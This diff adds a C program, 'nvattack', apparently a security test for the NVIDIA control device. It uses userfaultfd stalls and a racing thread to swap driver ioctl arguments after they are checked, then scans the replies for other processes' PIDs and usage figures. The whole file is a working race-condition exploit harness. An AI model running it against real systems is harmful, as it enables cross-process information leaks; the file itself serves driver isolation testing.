@@ -1,0 +1,460 @@
+// SPDX-License-Identifier: GPL-2.0 OR MIT
+/*
+ * A hostile caller: it lets the driver read another argument than whoever looked before the driver. By a fault, when part of the argument
+ * lies on a page that is missing and the rest is exchanged before the page is given; and by a race, when a thread exchanges it all the time.
+ * Every control that carries process ids is tried, and every byte that comes back is looked through for the numbers given.
+ *
+ * One line per try: `row NAME claim CLAIM calls N accepted M found F`, and ` as PID` with the first one found. Exit 0: nothing found; 1: something
+ * found; 2: usage, or no device.
+ */
+#define _GNU_SOURCE
+#include <getopt.h>
+#include <linux/userfaultfd.h>
+#include <pthread.h>
+#include <stdbool.h>
+#include <sys/mman.h>
+#include <sys/syscall.h>
+#include <time.h>
+
+#include "nvrm.h"
+
+#define PAGE 4096
+#define BUFFER 65536
+#define HARMLESS 0x20801303 /* FB_INFO_V2 takes any size */
+#define GET_PIDS 0x2080018d
+
+enum object { SUBDEVICE, DEVICE, CLIENT, PROFILER };
+
+/* What asks about processes gives itself away by figures, everything else by numbers. */
+struct row {
+	const char *name;
+	uint32_t cmd, size;
+	enum object object;
+	void (*fill)(uint8_t *params, const struct row *row);
+	unsigned figures; /* offset of a u64 that is not 0 in an answer about a foreign process; 0: look for numbers */
+};
+
+static uint8_t *params, *decoy, *inner; /* BUFFER bytes each */
+static uint32_t foreign[64];
+static unsigned foreign_count;
+static struct nv_session session;
+static uint32_t profiler;
+static int ctl = -1;
+static struct nv_way way;
+
+static void put32(uint8_t *p, unsigned off, uint32_t v)
+{
+	memcpy(p + off, &v, 4);
+}
+
+static void put64(uint8_t *p, unsigned off, uint64_t v)
+{
+	memcpy(p + off, &v, 8);
+}
+
+static void fill_pids(uint8_t *p, const struct row *row)
+{
+	(void)row;
+	put32(p, 4, 0xc3c0);
+}
+
+static void fill_memory(uint8_t *p, const struct row *row)
+{
+	unsigned i;
+
+	put32(p, 0, foreign_count);
+	for (i = 0; i < foreign_count; i++)
+		put32(p, 8 + i * (row->size - 8) / 200, foreign[i]);
+}
+
+static void fill_samples(uint8_t *p, const struct row *row)
+{
+	p[0] = 2;
+	put32(p, 4, row->size - 16);
+}
+
+static void fill_samples1(uint8_t *p, const struct row *row)
+{
+	(void)row;
+	p[0] = 2;
+	put32(p, 4, 47200);
+	put64(p, 16, (uintptr_t)inner);
+}
+
+static void fill_gpu(uint8_t *p, const struct row *row)
+{
+	(void)row;
+	put32(p, 0, 1 << 8);
+}
+
+static void fill_record(uint8_t *p, const struct row *row)
+{
+	(void)row;
+	put32(p, 0, 1 << 8);
+	put32(p, 4, foreign[0]);
+}
+
+static void fill_room(uint8_t *p, const struct row *row)
+{
+	put32(p, 0, 512);
+	if (row->size == 16)
+		put64(p, 8, (uintptr_t)inner);
+}
+
+static void fill_nothing(uint8_t *p, const struct row *row)
+{
+	(void)p;
+	(void)row;
+}
+
+static const struct row rows[] = {
+	{ "pids", GET_PIDS, 3812, SUBDEVICE, fill_pids, 0 },
+	{ "pids-old", 0x00800202, 3812, DEVICE, fill_pids, 0 },
+	{ "memory", 0x2080018e, 14408, SUBDEVICE, fill_memory, 24 },
+	{ "memory-450", 0x2080018e, 9608, SUBDEVICE, fill_memory, 24 },
+	{ "memory-390", 0x00800203, 8008, DEVICE, fill_memory, 24 },
+	{ "samples-570", 0x20802096, 55888, SUBDEVICE, fill_samples, 0 },
+	{ "samples-550", 0x20802096, 50704, SUBDEVICE, fill_samples, 0 },
+	{ "samples-515", 0x20802096, 34000, SUBDEVICE, fill_samples, 0 },
+	{ "samples-460", 0x20802096, 47216, SUBDEVICE, fill_samples, 0 },
+	{ "samples-pointed", 0x20802083, 24, SUBDEVICE, fill_samples1, 0 },
+	{ "records", 0xb04, 16012, CLIENT, fill_gpu, 0 },
+	{ "record", 0xb03, 48, CLIENT, fill_record, 32 },
+	{ "encoder-pointed", 0x2080016e, 16, SUBDEVICE, fill_room, 0 },
+	{ "encoder", 0x208001af, 16388, SUBDEVICE, fill_room, 0 },
+	{ "capture", 0x2080017c, 13316, SUBDEVICE, fill_nothing, 0 },
+	{ "profiler", 0x90cc0103, 12, PROFILER, fill_nothing, 0 },
+};
+#define ROWS (sizeof(rows) / sizeof(rows[0]))
+
+/* What the argument says before it is exchanged. */
+struct claim {
+	const char *name;
+	uint32_t cmd, size; /* 0: the row's own */
+};
+
+static const struct claim claims[] = {
+	{ "harmless", 0, 0 }, { "pids", GET_PIDS, 3812 }, { "elsewhere", 1, 0 },
+};
+#define CLAIMS (sizeof(claims) / sizeof(claims[0]))
+
+static uint32_t handle(enum object object)
+{
+	switch (object) {
+	case DEVICE: return session.device;
+	case CLIENT: return session.client;
+	case PROFILER: return profiler;
+	default: return session.subdevice;
+	}
+}
+
+static uint32_t harmless(enum object object)
+{
+	switch (object) {
+	case DEVICE: return 0x00800289;
+	case CLIENT: return 0x00000215;
+	case PROFILER: return 0x90cc01ff;
+	default: return HARMLESS;
+	}
+}
+
+static struct nv_control_arg truly(const struct row *row)
+{
+	return (struct nv_control_arg){ session.client, handle(row->object), row->cmd, 0, (uintptr_t)params, row->size, 0xdead };
+}
+
+static struct nv_control_arg claimed(const struct row *row, const struct claim *claim)
+{
+	struct nv_control_arg arg = truly(row);
+
+	arg.cmd = !claim->cmd ? harmless(row->object) : claim->cmd == 1 ? row->cmd : claim->cmd;
+	arg.size = claim->size ? claim->size : row->size;
+	arg.params = (uintptr_t)decoy;
+	return arg;
+}
+
+static void prepare(const struct row *row)
+{
+	memset(params, 0, BUFFER);
+	memset(decoy, 0, BUFFER);
+	memset(inner, 0, BUFFER);
+	row->fill(params, row);
+	/* What asks about nobody answers about nobody, and a list needs its class. */
+	if (!row->figures)
+		row->fill(decoy, row);
+}
+
+static uint32_t number_in(const uint8_t *p)
+{
+	unsigned i, f;
+
+	for (i = 0; i < BUFFER; i += 4) {
+		uint32_t word = *(const volatile uint32_t *)(p + i);
+
+		for (f = 0; word && f < foreign_count; f++)
+			if (word == foreign[f])
+				return word;
+	}
+	return 0;
+}
+
+/* The first foreign number that came back, or that figures came back about. */
+static uint32_t found(const struct row *row)
+{
+	uint64_t figures;
+	uint32_t pid;
+	unsigned i;
+
+	if (!row->figures) {
+		pid = number_in(params);
+		if (!pid)
+			pid = number_in(decoy);
+		return pid ? pid : number_in(inner);
+	}
+	for (i = 0; i < (row->cmd == 0xb03 ? 1 : foreign_count); i++) {
+		memcpy(&figures, params + row->figures + i * (row->size - 8) / 200, 8);
+		if (figures)
+			return foreign[i];
+	}
+	return 0;
+}
+
+static int report(const struct row *row, const char *claim, unsigned long calls, unsigned long accepted, unsigned long hits,
+		  uint32_t pid)
+{
+	printf("row %s claim %s calls %lu accepted %lu found %lu", row->name, claim, calls, accepted, hits);
+	if (hits)
+		printf(" as %u", pid);
+	printf("\n");
+	fflush(stdout);
+	return hits != 0;
+}
+
+/* --- by a fault --- */
+
+/*
+ * Two pages, of which the first is missing. What is exchanged lies on the second, as far as it is there; `give` is what the first holds
+ * in its last eight bytes.
+ */
+static struct {
+	int fd;
+	uint8_t *pages, *given;
+	volatile uint8_t *second;
+	uint8_t after[24]; /* what the second page begins with once the first is given */
+	volatile unsigned faults;
+} lure;
+
+static void *giver(void *unused)
+{
+	struct uffd_msg message;
+
+	while (read(lure.fd, &message, sizeof(message)) == sizeof(message)) {
+		struct uffdio_copy copy = { .dst = (uintptr_t)lure.pages, .src = (uintptr_t)lure.given, .len = PAGE };
+		unsigned i;
+
+		for (i = 0; i < sizeof(lure.after); i++)
+			lure.second[i] = lure.after[i];
+		lure.faults++;
+		ioctl(lure.fd, UFFDIO_COPY, &copy);
+	}
+	return unused;
+}
+
+static void make_lure(void)
+{
+	struct uffdio_api api = { .api = UFFD_API };
+	struct uffdio_register reg = { .mode = UFFDIO_REGISTER_MODE_MISSING };
+	pthread_t thread;
+
+	lure.fd = syscall(SYS_userfaultfd, O_CLOEXEC);
+	lure.pages = mmap(NULL, 2 * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	lure.given = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	lure.second = lure.pages + PAGE;
+	reg.range.start = (uintptr_t)lure.pages;
+	reg.range.len = PAGE;
+	if (lure.pages == MAP_FAILED || lure.given == MAP_FAILED || lure.fd < 0 || ioctl(lure.fd, UFFDIO_API, &api) ||
+	    ioctl(lure.fd, UFFDIO_REGISTER, &reg))
+		nv_die("nvattack: userfaultfd", -errno);
+	if (pthread_create(&thread, NULL, giver, NULL))
+		nv_die("nvattack: thread", -EAGAIN);
+}
+
+/* A block whose first eight bytes are missing and whose rest is `before` until they are asked for, and `after` from then on. */
+static void *lay(const void *before, const void *after, size_t size)
+{
+	if (madvise(lure.pages, PAGE, MADV_DONTNEED))
+		nv_die("nvattack: madvise", -errno);
+	memcpy((void *)lure.second, (const uint8_t *)before + 8, size - 8);
+	memcpy(lure.after, (const uint8_t *)after + 8, size - 8);
+	memcpy(lure.given + PAGE - 8, after, 8);
+	return lure.pages + PAGE - 8;
+}
+
+static int by_fault(const struct row *row, const struct claim *claim, bool wrapping)
+{
+	struct nv_control_arg said = claimed(row, claim), meant = truly(row);
+	uint32_t pid = 0;
+	unsigned faults = lure.faults;
+	int rc;
+
+	prepare(row);
+	if (wrapping) {
+		/* The wrapping is what changes: it points to one argument, then to another. */
+		struct nv_xfer_arg before = { 0x2a, sizeof(said), (uintptr_t)&said };
+		struct nv_xfer_arg after = { 0x2a, sizeof(meant), (uintptr_t)&meant };
+
+		rc = ioctl(ctl, nv_ioc(211, sizeof(before), &way), lay(&before, &after, sizeof(before)));
+	} else {
+		rc = nv_control_send(ctl, lay(&said, &meant, sizeof(said)), &way);
+		memcpy(&meant, lure.pages + PAGE - 8, sizeof(meant));
+	}
+	if (lure.faults == faults)
+		nv_die("nvattack: nobody asked for the missing page", -EIO);
+	pid = found(row);
+	return report(row, claim->name, 1, rc == 0 && meant.status == 0, pid != 0, pid);
+}
+
+/* --- by a race --- */
+
+static struct {
+	volatile struct nv_control_arg arg;
+	struct nv_control_arg said[CLAIMS], meant;
+	const struct row *row;
+	volatile int stop;
+	volatile uint32_t seen;
+	volatile unsigned long hits;
+} race;
+
+static void *exchanger(void *unused)
+{
+	unsigned turn = 0, i;
+
+	while (!race.stop) {
+		const struct nv_control_arg *next = turn++ & 1 ? &race.meant : &race.said[turn / 2 % CLAIMS];
+
+		race.arg.cmd = next->cmd;
+		race.arg.size = next->size;
+		race.arg.params = next->params;
+		for (i = 0; i < turn % 61; i++)
+			__asm__ volatile("pause");
+	}
+	return unused;
+}
+
+static void *looker(void *unused)
+{
+	while (!race.stop) {
+		uint32_t pid = found(race.row);
+
+		if (pid) {
+			race.seen = pid;
+			race.hits++;
+		}
+	}
+	return unused;
+}
+
+static double now(void)
+{
+	struct timespec t;
+
+	clock_gettime(CLOCK_MONOTONIC, &t);
+	return t.tv_sec + t.tv_nsec / 1e9;
+}
+
+static int by_race(const struct row *row, double seconds)
+{
+	unsigned long calls = 0, accepted = 0, hits = 0;
+	double end = now() + seconds;
+	uint32_t pid = 0, one;
+	pthread_t thread[2];
+	unsigned i;
+
+	race.row = row;
+	race.stop = 0;
+	race.hits = 0;
+	race.meant = truly(row);
+	for (i = 0; i < CLAIMS; i++)
+		race.said[i] = claimed(row, &claims[i]);
+	memcpy((void *)&race.arg, &race.meant, sizeof(race.meant));
+	prepare(row);
+	if (pthread_create(&thread[0], NULL, exchanger, NULL) || pthread_create(&thread[1], NULL, looker, NULL))
+		nv_die("nvattack: thread", -EAGAIN);
+	do {
+		int rc;
+
+		prepare(row);
+		race.arg.status = 0xdead;
+		rc = nv_control_send(ctl, (struct nv_control_arg *)&race.arg, &way);
+		calls++;
+		accepted += rc == 0 && race.arg.status == 0;
+		one = found(row);
+		hits += one != 0;
+		pid = one ? one : pid;
+	} while (now() < end);
+	race.stop = 1;
+	for (i = 0; i < 2; i++)
+		pthread_join(thread[i], NULL);
+	return report(row, "all", calls, accepted, hits + race.hits, pid ? pid : race.seen);
+}
+
+static void usage(FILE *to)
+{
+	fputs("usage: nvattack [--xfer] [--row NAME] [--seconds S] fault|wrapping|race PID...\n"
+	      "  fault      part of the argument lies on a missing page; the rest is exchanged before the page is given\n"
+	      "  wrapping   the same with XFER's wrapping\n"
+	      "  race       a thread exchanges the argument all the time: S seconds (0.3) for each row\n"
+	      "PID...: numbers that must not come back; what asks about processes asks about them.\n",
+	      to);
+}
+
+int main(int argc, char **argv)
+{
+	static const struct option options[] = {
+		{ "xfer", 0, NULL, 'x' }, { "row", 1, NULL, 'r' }, { "seconds", 1, NULL, 's' },
+		{ "help", 0, NULL, 'h' }, { NULL, 0, NULL, 0 },
+	};
+	const char *only = NULL, *what;
+	double seconds = 0.3;
+	int o, any = 0;
+	unsigned r, c;
+
+	while ((o = getopt_long(argc, argv, "+", options, NULL)) != -1) {
+		switch (o) {
+		case 'x': way.xfer = 1; break;
+		case 'r': only = optarg; break;
+		case 's': seconds = strtod(optarg, NULL); break;
+		case 'h': usage(stdout); return 0;
+		default: usage(stderr); return 2;
+		}
+	}
+	if (argc - optind < 2 || argc - optind > 64) {
+		usage(stderr);
+		return 2;
+	}
+	what = argv[optind++];
+	while (optind < argc)
+		foreign[foreign_count++] = strtoul(argv[optind++], NULL, 0);
+	params = aligned_alloc(PAGE, BUFFER);
+	decoy = aligned_alloc(PAGE, BUFFER);
+	inner = aligned_alloc(PAGE, BUFFER);
+	ctl = nv_open_minor(255);
+	if (ctl < 0 || !params || !decoy || !inner)
+		nv_die("nvattack: /dev/nvidiactl", -errno);
+	o = nv_session_open(ctl, 0, &session);
+	if (!o)
+		o = nv_alloc(ctl, session.client, session.subdevice, &profiler, 0x90cc, NULL, 0);
+	if (o)
+		nv_die("nvattack: client and objects", o);
+	if (strcmp(what, "race"))
+		make_lure();
+	for (r = 0; r < ROWS; r++) {
+		if (only && strcmp(only, rows[r].name))
+			continue;
+		if (!strcmp(what, "race"))
+			any |= by_race(&rows[r], seconds);
+		for (c = 0; c < CLAIMS && strcmp(what, "race"); c++)
+			any |= by_fault(&rows[r], &claims[c], !strcmp(what, "wrapping"));
+	}
+	return any;
+}
